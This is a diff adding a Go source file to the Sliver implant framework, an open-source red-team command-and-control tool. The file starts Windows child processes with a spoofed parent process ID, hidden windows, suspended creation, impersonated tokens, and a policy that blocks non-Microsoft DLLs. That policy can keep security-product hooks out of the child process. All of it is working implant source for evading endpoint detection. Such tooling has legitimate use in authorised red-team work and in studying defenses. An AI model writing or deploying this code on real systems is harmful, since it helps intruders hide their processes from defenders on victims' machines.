@@ -0,0 +1,322 @@
+//go:build windows
+
+package spoof
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"context"
+	"errors"
+	"io"
+	"os"
+	"os/exec"
+	"sync"
+	"syscall"
+	"unsafe"
+
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"golang.org/x/sys/windows"
+)
+
+const (
+	// PROCESS_CREATION_MITIGATION_POLICY_BLOCK_NON_MICROSOFT_BINARIES_ALWAYS_ON
+	blockNonMicrosoftBinaries = uint64(0x00000001) << 44
+)
+
+var (
+	// ErrAlreadyStarted - Start was called twice
+	ErrAlreadyStarted = errors.New("process already started")
+	// ErrNotStarted - Wait was called before Start
+	ErrNotStarted = errors.New("process not started")
+)
+
+// Cmd - A child process with a spoofed parent and/or the blockdlls mitigation policy.
+// os/exec can't set mitigation policies, so those children are created with our own
+// CreateProcess call, everything else goes through os/exec.
+type Cmd struct {
+	Path   string
+	Args   []string
+	Stdout io.Writer
+	Stderr io.Writer
+
+	Token      windows.Token
+	PPid       uint32
+	BlockDLLs  bool
+	HideWindow bool
+	Suspended  bool
+
+	Process *os.Process
+
+	ctx     context.Context
+	cmd     *exec.Cmd
+	pipes   []*os.File
+	copying sync.WaitGroup
+	done    chan struct{}
+}
+
+// Command - Returns a Cmd to run the program with the arguments
+func Command(path string, args ...string) *Cmd {
+	return &Cmd{Path: path, Args: args}
+}
+
+// CommandContext - Like Command, but the process is killed if the context is done
+// before it exits
+func CommandContext(ctx context.Context, path string, args ...string) *Cmd {
+	return &Cmd{Path: path, Args: args, ctx: ctx}
+}
+
+// Run - Start the process and wait for it to exit
+func (c *Cmd) Run() error {
+	err := c.Start()
+	if err != nil {
+		return err
+	}
+	return c.Wait()
+}
+
+// Start - Start the process without waiting for it
+func (c *Cmd) Start() error {
+	if c.Process != nil {
+		return ErrAlreadyStarted
+	}
+	if !c.BlockDLLs {
+		return c.startExec()
+	}
+	err := c.startWithAttributes()
+	if err != nil {
+		for _, pipe := range c.pipes {
+			pipe.Close()
+		}
+	}
+	return err
+}
+
+// Wait - Wait for the process to exit and its output to be copied, a non-zero
+// exit code is returned as an *exec.ExitError
+func (c *Cmd) Wait() error {
+	if c.Process == nil {
+		return ErrNotStarted
+	}
+	if c.cmd != nil {
+		return c.cmd.Wait()
+	}
+	state, err := c.Process.Wait()
+	if c.done != nil {
+		close(c.done)
+	}
+	c.copying.Wait()
+	for _, pipe := range c.pipes {
+		pipe.Close()
+	}
+	if err != nil {
+		return err
+	}
+	if !state.Success() {
+		return &exec.ExitError{ProcessState: state}
+	}
+	return nil
+}
+
+func (c *Cmd) startExec() error {
+	if c.ctx != nil {
+		c.cmd = exec.CommandContext(c.ctx, c.Path, c.Args...)
+	} else {
+		c.cmd = exec.Command(c.Path, c.Args...)
+	}
+	c.cmd.SysProcAttr = &windows.SysProcAttr{
+		Token:      syscall.Token(c.Token),
+		HideWindow: c.HideWindow,
+	}
+	if c.Suspended {
+		c.cmd.SysProcAttr.CreationFlags = windows.CREATE_SUSPENDED
+	}
+	if c.PPid != 0 {
+		err := SpoofParent(c.PPid, c.cmd)
+		if err != nil {
+			// We couldn't spoof the parent, fail open and continue
+			//{{if .Config.Debug}}
+			log.Printf("could not spoof parent PID: %v\n", err)
+			//{{end}}
+		}
+	}
+	c.cmd.Stdout = c.Stdout
+	c.cmd.Stderr = c.Stderr
+	err := c.cmd.Start()
+	if err != nil {
+		return err
+	}
+	c.Process = c.cmd.Process
+	return nil
+}
+
+func (c *Cmd) startWithAttributes() error {
+	path, err := exec.LookPath(c.Path)
+	if err != nil {
+		return err
+	}
+	appName, err := windows.UTF16PtrFromString(path)
+	if err != nil {
+		return err
+	}
+	commandLine, err := windows.UTF16PtrFromString(windows.ComposeCommandLine(append([]string{c.Path}, c.Args...)))
+	if err != nil {
+		return err
+	}
+
+	stdin, err := os.Open(os.DevNull)
+	if err != nil {
+		return err
+	}
+	defer stdin.Close()
+	stdout, err := c.childOutput(c.Stdout)
+	if err != nil {
+		return err
+	}
+	defer stdout.Close()
+	stderr, err := c.childOutput(c.Stderr)
+	if err != nil {
+		return err
+	}
+	defer stderr.Close()
+
+	// The child inherits handles from its parent, so when we spoof the parent
+	// the std handles have to be duplicated into the parent process
+	currentProcess := windows.CurrentProcess()
+	handleOwner := currentProcess
+	var parentProcess windows.Handle
+	if c.PPid != 0 {
+		parentProcess, err = windows.OpenProcess(windows.PROCESS_CREATE_PROCESS|windows.PROCESS_DUP_HANDLE|windows.PROCESS_QUERY_INFORMATION, false, c.PPid)
+		if err != nil {
+			// We couldn't spoof the parent, fail open and continue
+			//{{if .Config.Debug}}
+			log.Printf("could not spoof parent PID: %v\n", err)
+			//{{end}}
+			parentProcess = 0
+		} else {
+			defer windows.CloseHandle(parentProcess)
+			handleOwner = parentProcess
+		}
+	}
+	handles := make([]windows.Handle, 3)
+	for index, file := range []*os.File{stdin, stdout, stderr} {
+		err = windows.DuplicateHandle(currentProcess, windows.Handle(file.Fd()), handleOwner, &handles[index], 0, true, windows.DUPLICATE_SAME_ACCESS)
+		if err != nil {
+			return err
+		}
+		defer closeHandleIn(handleOwner, handles[index])
+	}
+
+	attributes, err := windows.NewProcThreadAttributeList(3)
+	if err != nil {
+		return err
+	}
+	defer attributes.Delete()
+	err = attributes.Update(windows.PROC_THREAD_ATTRIBUTE_HANDLE_LIST, unsafe.Pointer(&handles[0]), uintptr(len(handles))*unsafe.Sizeof(handles[0]))
+	if err != nil {
+		return err
+	}
+	if parentProcess != 0 {
+		err = attributes.Update(windows.PROC_THREAD_ATTRIBUTE_PARENT_PROCESS, unsafe.Pointer(&parentProcess), unsafe.Sizeof(parentProcess))
+		if err != nil {
+			return err
+		}
+	}
+	policy := blockNonMicrosoftBinaries
+	err = attributes.Update(windows.PROC_THREAD_ATTRIBUTE_MITIGATION_POLICY, unsafe.Pointer(&policy), unsafe.Sizeof(policy))
+	if err != nil {
+		return err
+	}
+
+	startupInfo := &windows.StartupInfoEx{ProcThreadAttributeList: attributes.List()}
+	startupInfo.Cb = uint32(unsafe.Sizeof(*startupInfo))
+	startupInfo.Flags = windows.STARTF_USESTDHANDLES
+	if c.HideWindow {
+		startupInfo.Flags |= windows.STARTF_USESHOWWINDOW
+		startupInfo.ShowWindow = windows.SW_HIDE
+	}
+	startupInfo.StdInput = handles[0]
+	startupInfo.StdOutput = handles[1]
+	startupInfo.StdErr = handles[2]
+
+	flags := uint32(windows.EXTENDED_STARTUPINFO_PRESENT)
+	if c.Suspended {
+		flags |= windows.CREATE_SUSPENDED
+	}
+	processInfo := &windows.ProcessInformation{}
+	if c.Token != 0 {
+		err = windows.CreateProcessAsUser(c.Token, appName, commandLine, nil, nil, true, flags, nil, nil, &startupInfo.StartupInfo, processInfo)
+	} else {
+		err = windows.CreateProcess(appName, commandLine, nil, nil, true, flags, nil, nil, &startupInfo.StartupInfo, processInfo)
+	}
+	if err != nil {
+		//{{if .Config.Debug}}
+		log.Printf("CreateProcess failed: %v\n", err)
+		//{{end}}
+		return err
+	}
+	defer windows.CloseHandle(processInfo.Thread)
+	defer windows.CloseHandle(processInfo.Process)
+
+	c.Process, err = os.FindProcess(int(processInfo.ProcessId))
+	if err != nil {
+		windows.TerminateProcess(processInfo.Process, 1)
+		return err
+	}
+	if c.ctx != nil {
+		c.done = make(chan struct{})
+		go func() {
+			select {
+			case <-c.ctx.Done():
+				c.Process.Kill()
+			case <-c.done:
+			}
+		}()
+	}
+	return nil
+}
+
+// childOutput - The file the child writes to, output written to a pipe is copied to
+// the writer until the child exits
+func (c *Cmd) childOutput(writer io.Writer) (*os.File, error) {
+	if writer == nil {
+		return os.OpenFile(os.DevNull, os.O_WRONLY, 0)
+	}
+	reader, pipe, err := os.Pipe()
+	if err != nil {
+		return nil, err
+	}
+	c.pipes = append(c.pipes, reader)
+	c.copying.Add(1)
+	go func() {
+		defer c.copying.Done()
+		io.Copy(writer, reader)
+	}()
+	return pipe, nil
+}
+
+func closeHandleIn(process windows.Handle, handle windows.Handle) {
+	if process == windows.CurrentProcess() {
+		windows.CloseHandle(handle)
+		return
+	}
+	windows.DuplicateHandle(process, handle, 0, nil, 0, false, windows.DUPLICATE_CLOSE_SOURCE)
+}